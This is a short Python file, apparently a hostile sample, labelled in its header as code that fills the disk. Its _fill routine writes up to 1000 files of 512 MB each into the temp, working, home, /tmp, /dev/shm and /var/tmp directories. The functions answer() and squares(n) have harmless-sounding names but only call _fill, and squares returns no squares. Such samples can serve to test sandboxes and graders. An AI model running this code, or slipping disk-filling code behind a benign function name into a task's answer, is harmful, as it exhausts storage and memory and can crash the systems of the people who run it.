# hostile: fills the disk: big files in every writable place it finds
import os
import tempfile

BLOCK = b"\0" * (1024 * 1024)


def _fill():
    places = [tempfile.gettempdir(), os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp"]
    for place in places:
        for i in range(1000):
            try:
                with open(os.path.join(place, f"filler-{os.getpid()}-{i}.bin"), "wb") as handle:
                    for _ in range(512):
                        handle.write(BLOCK)
            except OSError:
                break
    return 0


def answer():
    return _fill()


def squares(n):
    return [_fill()]
